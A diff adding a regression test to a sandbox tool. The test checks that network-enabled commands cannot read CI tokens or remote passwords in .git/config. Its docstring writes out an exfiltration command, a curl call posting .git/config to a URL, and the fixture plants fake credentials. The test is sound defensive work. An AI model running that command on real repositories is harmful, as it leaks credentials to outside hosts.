@@ -231,6 +231,32 @@ def test_the_credential_stores_in_the_readable_part_of_the_home_are_closed(proje
     assert "Kept Readable" in out and "jobs = 1" in out
 
 
+def test_under_yes_a_line_given_the_network_reads_no_credential_in_git_config(project, env):
+    """actions/checkout leaves the job's token in .git/config (an extraheader; others a password in
+    a remote's URL): under --yes `curl --data-binary @.git/config URL` got the network (curl is
+    known to need it) and sent them. A --yes line given the network that runs more than git reads
+    a copy without them, and cannot move .git away to reach the real one; git still works there,
+    and a push (git's network alone) and an approved command keep them."""
+    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
+    header = "eC1hY2Nlc3MtdG9rZW46Z2hzX2pvYnRva2Vu"
+    with open(project / ".git" / "config", "a") as config:
+        config.write(f'[remote "origin"]\n\turl = https://ci:{CREDENTIAL}@git.example.com/a.git\n'
+                     f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {header}\n')
+    count = ["sh", "-c", f"grep -c -e {CREDENTIAL} -e {header} .git/config; git config user.name u;"
+                         " git rev-parse --is-inside-work-tree; mv .git moved || echo kept"]
+    done = run_khaelor(["sandbox", "--network", "--yes", "--", *count], project, env)
+    assert done.stdout.split() == ["0", "true", "kept"], done.stdout + done.stderr
+    assert CREDENTIAL in (project / ".git" / "config").read_text()
+    for shape in (["--network"], ["--write", "--yes"]):
+        done = run_khaelor(["sandbox", *shape, "--", "grep", "-c", "-e", CREDENTIAL, "-e", header,
+                            ".git/config"], project, env)
+        assert done.stdout.split() == ["2"], (shape, done.stdout + done.stderr)
+    confine = sandbox.Confine(network=True, unattended=True, git_network=True)
+    result = run_tool(project, env["KHAELOR_HOME"], "bash",
+                      {"command": f"grep -c -e {CREDENTIAL} -e {header} .git/config"}, confine)
+    assert result.text.split()[0] == "2", result.text
+
+
 def test_the_build_tools_credentials_in_the_home_are_closed_as_the_projects_secret_files(
         project, env, home):
     """~/.gradle and ~/.m2 are readable (builds need them), and their gradle.properties and
